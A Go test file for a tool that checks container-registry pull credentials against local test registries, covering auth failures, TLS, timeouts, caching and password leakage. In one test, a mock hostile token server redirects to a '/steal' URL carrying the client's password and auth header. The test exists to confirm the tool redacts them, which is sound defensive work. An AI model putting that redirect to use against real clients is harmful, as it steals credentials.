package online

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"pullgen.dev/pullgen/internal/testsupport/registrytest"
)

// Users of the test registries. Passwords are random enough to be found if they leaked.
var (
	pusher = registrytest.User{Name: "pusher", Password: "Push-3c1d9e7a"}
	robot  = registrytest.User{Name: "robot", Password: "Robot-8f2b6c41"}
	other  = registrytest.User{Name: "other", Password: "Other-5a7e0d93"}
	sso    = registrytest.User{Name: "sso", Password: "Sso-1e4f8b27"}
	wrong  = registrytest.User{Name: "robot", Password: "Wrong-6d2a9c15"}
)

// cred is a credential labelled like the check labels them.
func cred(label string, u registrytest.User) Credential {
	return Credential{Label: label, Username: u.Name, Password: u.Password}
}

// withAuthServer adds the entry a Secret holds for an auth server.
func withAuthServer(c Credential, host string, u registrytest.User) Credential {
	c.AuthServer = func(realm string) (AuthEntry, bool) {
		if strings.HasPrefix(realm, host+"/") || realm == host {
			return AuthEntry{Label: "pull (" + host + ")", Username: u.Name, Password: u.Password}, true
		}
		return AuthEntry{}, false
	}
	return c
}

// verifyOne verifies one probe.
func verifyOne(t *testing.T, o Options, image string, creds ...Credential) Result {
	t.Helper()
	res := Verify(context.Background(), []Probe{{Image: image, Credentials: creds}}, o)
	noLeak(t, res)
	return res[0]
}

// noLeak fails when a result shows a test password.
func noLeak(t *testing.T, res []Result) {
	t.Helper()
	for _, r := range res {
		texts := []string{r.Reason}
		for _, a := range r.Attempts {
			texts = append(texts, a.Reason, a.AuthServerLabel)
		}
		for _, s := range texts {
			for _, u := range []registrytest.User{pusher, robot, other, sso, wrong} {
				if strings.Contains(s, u.Password) {
					t.Errorf("a reason shows a password: %q", s)
				}
			}
		}
	}
}

// want checks a result's outcome, the credential used and, when given, words of the
// reason of its last credential's attempt (or of its reason when it has no attempt).
func want(t *testing.T, r Result, outcome Outcome, used int, words ...string) {
	t.Helper()
	if r.Outcome != outcome || r.Used != used {
		t.Fatalf("outcome %s with credential %d, want %s with %d: %+v", r.Outcome, r.Used, outcome, used, r)
	}
	reason := r.Reason
	for _, a := range r.Attempts {
		if a.Credential >= 0 || len(r.Attempts) == 1 {
			reason = a.Reason
		}
	}
	for _, w := range words {
		if !strings.Contains(reason, w) {
			t.Errorf("reason %q does not say %q", reason, w)
		}
	}
}

func TestBasicAuthRegistry(t *testing.T) {
	reg := registrytest.StartHtpasswd(t, pusher, robot)
	digest := registrytest.Push(t, reg.Host+"/team/app:1", pusher, nil)
	o := Options{Insecure: []string{reg.Host}, Timeout: 5 * time.Second}
	img := reg.Host + "/team/app:1"

	tests := []struct {
		name    string
		image   string
		creds   []Credential
		outcome Outcome
		used    int
		status  int
		words   []string
	}{
		{"right credential", img, []Credential{cred("pull (reg)", robot)}, Verified, 0, 200, []string{"served the manifest of team/app:1"}},
		{"wrong password", img, []Credential{cred("pull (reg)", wrong)}, Denied, -1, 401, []string{"refused the credential for team/app:1", "401 Unauthorized"}},
		{"missing tag", reg.Host + "/team/app:2", []Credential{cred("pull (reg)", robot)}, NotFound, -1, 404, []string{"no manifest team/app:2", "404"}},
		{"missing repository", reg.Host + "/team/none:1", []Credential{cred("pull (reg)", robot)}, NotFound, -1, 404, []string{"team/none:1"}},
		{"digest reference", reg.Host + "/team/app@" + digest, []Credential{cred("pull (reg)", robot)}, Verified, 0, 200, []string{"team/app@" + digest}},
		{"tag and digest", img + "@" + digest, []Credential{cred("pull (reg)", robot)}, Verified, 0, 200, nil},
		{"first of two credentials wrong", img, []Credential{cred("old (reg)", wrong), cred("pull (reg)", robot)}, Verified, 1, 200, nil},
		{"anonymous pull", img, nil, Denied, -1, 401, []string{"requires a credential"}},
		{"credential unknown, the next one works", img, []Credential{{Label: "enc (reg)", Unavailable: "encrypted"}, cred("pull (reg)", robot)}, Verified, 1, 200, nil},
		{"only credential unknown", img, []Credential{{Label: "enc (reg)", Unavailable: "Secret enc is encrypted"}}, Unverified, -1, 0, []string{"Secret enc is encrypted"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := verifyOne(t, o, tt.image, tt.creds...)
			want(t, r, tt.outcome, tt.used, tt.words...)
			if last := r.Attempts[len(r.Attempts)-1]; last.Status != tt.status {
				t.Errorf("status %d, want %d", last.Status, tt.status)
			}
			if r.AnonymousWorks {
				t.Error("anonymous pull reported to work on an htpasswd registry")
			}
		})
	}
	t.Run("first of two credentials wrong: both attempts reported", func(t *testing.T) {
		r := verifyOne(t, o, img, cred("old (reg)", wrong), cred("pull (reg)", robot))
		if len(r.Attempts) != 2 || r.Attempts[0].Outcome != Denied || r.Attempts[0].Credential != 0 || r.Attempts[1].Credential != 1 {
			t.Fatalf("attempts %+v", r.Attempts)
		}
	})
	t.Run("plain HTTP needs --insecure-registry", func(t *testing.T) {
		r := verifyOne(t, Options{Timeout: 5 * time.Second}, img, cred("pull (reg)", robot))
		want(t, r, Unreachable, -1, "it speaks plain HTTP", "--insecure-registry "+reg.Host)
	})
	t.Run("registry down", func(t *testing.T) {
		down := registrytest.StartHtpasswd(t, robot)
		down.Stop()
		r := verifyOne(t, Options{Insecure: []string{down.Host}, Timeout: 5 * time.Second}, down.Host+"/team/app:1", cred("pull (reg)", robot))
		want(t, r, Unreachable, -1, "registry "+down.Host+" is unreachable", "connection refused")
	})
}

func TestTokenAuthRegistry(t *testing.T) {
	ts := registrytest.NewTokenServer(t)
	ts.Grant(pusher, "pull,push", "*")
	ts.Grant(robot, "pull", "team/app", "public/app")
	ts.Grant(other, "pull", "other/app")
	ts.Grant(sso, "pull", "team/app")
	reg := registrytest.StartToken(t, ts)
	digest := registrytest.Push(t, reg.Host+"/team/app:1", pusher, nil)
	registrytest.Push(t, reg.Host+"/public/app:1", pusher, nil)
	ts.GrantAnonymous("public/app")
	o := Options{Insecure: []string{reg.Host}, Timeout: 5 * time.Second}
	img := reg.Host + "/team/app:1"
	registryOnly := registrytest.User{Name: "registry-robot", Password: "RegOnly-7b3e2f90"}

	t.Run("right credential", func(t *testing.T) {
		r := verifyOne(t, o, img, cred("pull (reg)", robot))
		want(t, r, Verified, 0)
		if a := r.Attempts[0]; a.AuthServer != ts.Host {
			t.Errorf("auth server %q, want %q", a.AuthServer, ts.Host)
		}
	})
	t.Run("digest reference", func(t *testing.T) {
		want(t, verifyOne(t, o, reg.Host+"/team/app@"+digest, cred("pull (reg)", robot)), Verified, 0)
	})
	t.Run("wrong password", func(t *testing.T) {
		r := verifyOne(t, o, img, cred("pull (reg)", wrong))
		want(t, r, Denied, -1, "the auth server "+ts.Host+" refused the credential", "401")
	})
	t.Run("no access to the repository", func(t *testing.T) {
		r := verifyOne(t, o, img, cred("pull (reg)", other))
		want(t, r, Denied, -1, "the auth server "+ts.Host+" accepted the credential", "registry "+reg.Host+" refused its token for team/app:1", "no pull access")
		if r.Attempts[0].Status != http.StatusUnauthorized {
			t.Errorf("status %d", r.Attempts[0].Status)
		}
	})
	t.Run("missing tag", func(t *testing.T) {
		want(t, verifyOne(t, o, reg.Host+"/team/app:9", cred("pull (reg)", robot)), NotFound, -1, "team/app:9")
	})
	t.Run("credential for the registry but not for the auth server", func(t *testing.T) {
		r := verifyOne(t, o, img, cred("pull (reg)", registryOnly))
		want(t, r, Denied, -1, "the auth server "+ts.Host+" refused the credential", "no entry for the auth server "+ts.Host)
	})
	t.Run("the auth server gets the Secret's entry for its host", func(t *testing.T) {
		before := len(ts.Requests())
		r := verifyOne(t, o, img, withAuthServer(cred("pull (reg)", registryOnly), ts.Host, sso))
		want(t, r, Verified, 0)
		if a := r.Attempts[0]; a.AuthServerLabel != "pull ("+ts.Host+")" {
			t.Errorf("auth server credential %q", a.AuthServerLabel)
		}
		reqs := ts.Requests()[before:]
		if len(reqs) == 0 || reqs[0].Account != sso.Name {
			t.Errorf("the auth server got %+v, want the %s account", reqs, sso.Name)
		}
	})
	t.Run("anonymous pull works although every credential is refused", func(t *testing.T) {
		r := verifyOne(t, o, reg.Host+"/public/app:1", cred("pull (reg)", wrong))
		want(t, r, Denied, -1)
		if !r.AnonymousWorks {
			t.Errorf("anonymous pull not detected: %+v", r)
		}
	})
	t.Run("anonymous pull of a public repository", func(t *testing.T) {
		want(t, verifyOne(t, o, reg.Host+"/public/app:1"), Verified, -1)
	})
	t.Run("anonymous pull of a private repository", func(t *testing.T) {
		want(t, verifyOne(t, o, img), Denied, -1, "requires a credential")
	})
	t.Run("first of two credentials wrong", func(t *testing.T) {
		want(t, verifyOne(t, o, img, cred("old (reg)", wrong), cred("pull (reg)", robot)), Verified, 1)
	})
}

func TestTLS(t *testing.T) {
	reg := registrytest.StartHtpasswdTLS(t, nil, pusher, robot)
	registrytest.Push(t, reg.Host+"/team/app:1", pusher, registrytest.TrustingTransport(t, reg.CAFile))
	img := reg.Host + "/team/app:1"
	t.Run("unknown authority", func(t *testing.T) {
		r := verifyOne(t, Options{Timeout: 5 * time.Second}, img, cred("pull (reg)", robot))
		want(t, r, Unreachable, -1, "TLS", "unknown authority")
	})
	t.Run("trusted", func(t *testing.T) {
		r := verifyOne(t, Options{Timeout: 5 * time.Second, Transport: registrytest.TrustingTransport(t, reg.CAFile)}, img, cred("pull (reg)", robot))
		want(t, r, Verified, 0)
	})
}

func TestTimeout(t *testing.T) {
	hung := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-time.After(10 * time.Second):
		}
	}))
	defer hung.Close()
	host := hung.Listener.Addr().String()
	start := time.Now()
	r := verifyOne(t, Options{Insecure: []string{host}, Timeout: 300 * time.Millisecond}, host+"/team/app:1", cred("pull (reg)", robot))
	want(t, r, Unreachable, -1, "no answer within 300ms")
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("took %s", d)
	}
}

// TestCacheAndConcurrency checks that the same image with the same credential is asked
// once, that each repository gets one token, and that no more requests than asked for
// are in flight.
func TestCacheAndConcurrency(t *testing.T) {
	ts := registrytest.NewTokenServer(t)
	ts.Grant(pusher, "pull,push", "*")
	ts.Grant(robot, "pull", "*")
	reg := registrytest.StartToken(t, ts)
	for _, tag := range []string{"1", "2", "3"} {
		registrytest.Push(t, reg.Host+"/team/app:"+tag, pusher, nil)
	}
	front := registrytest.NewFront(t, reg.Host, 20*time.Millisecond)
	tokensBefore := len(ts.Requests())
	var probes []Probe
	for i := range 30 {
		tag := []string{"1", "2", "3"}[i%3]
		probes = append(probes, Probe{Image: front.Host + "/team/app:" + tag, Credentials: []Credential{cred("pull (reg)", robot)}})
	}
	res := Verify(context.Background(), probes, Options{Insecure: []string{front.Host}, Concurrency: 2})
	noLeak(t, res)
	for _, r := range res {
		if r.Outcome != Verified {
			t.Fatalf("%+v", r)
		}
	}
	total, inFlight := front.Requests()
	// One ping, then one HEAD per tag: the registry itself is asked 4 times.
	if total != 4 {
		t.Errorf("%d requests to the registry, want 4 (one ping, one HEAD per tag)", total)
	}
	if inFlight > 2 {
		t.Errorf("%d requests in flight, want at most 2", inFlight)
	}
	if n := len(ts.Requests()) - tokensBefore; n != 1 {
		t.Errorf("%d token requests, want 1 (one repository, one credential)", n)
	}
}

// TestUnreachableReasons checks the reasons of failures without an HTTP answer.
func TestUnreachableReasons(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed := l.Addr().String()
	l.Close()
	tests := []struct {
		name, image string
		o           Options
		words       []string
	}{
		{"connection refused", closed + "/a:1", Options{Insecure: []string{closed}}, []string{"connection refused"}},
		{"unknown host", "registry.invalid/a:1", Options{}, []string{"registry.invalid", "not found"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.o.Timeout = 3 * time.Second
			want(t, verifyOne(t, tt.o, tt.image, cred("pull (reg)", robot)), Unreachable, -1, tt.words...)
		})
	}
}

// TestHostileRegistry checks that what a registry sends back never brings a credential
// into a reason: the token server redirects to a private address with the password in
// the URL, which go-containerregistry refuses and quotes in its error.
func TestHostileRegistry(t *testing.T) {
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v2/":
			w.Header().Set("WWW-Authenticate", `Bearer realm="`+srv.URL+`/token",service="hostile"`)
			w.WriteHeader(http.StatusUnauthorized)
		case "/token":
			_, pass, _ := r.BasicAuth()
			http.Redirect(w, r, "http://10.0.0.1/steal?pw="+pass+"&auth="+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	host := srv.Listener.Addr().String()
	r := verifyOne(t, Options{Insecure: []string{host}, Timeout: 3 * time.Second}, host+"/team/app:1", cred("pull (reg)", robot))
	if r.Outcome != RegistryError || !strings.Contains(r.Attempts[0].Reason, "pw=[redacted]&auth=[redacted]") {
		t.Errorf("%+v", r)
	}
}
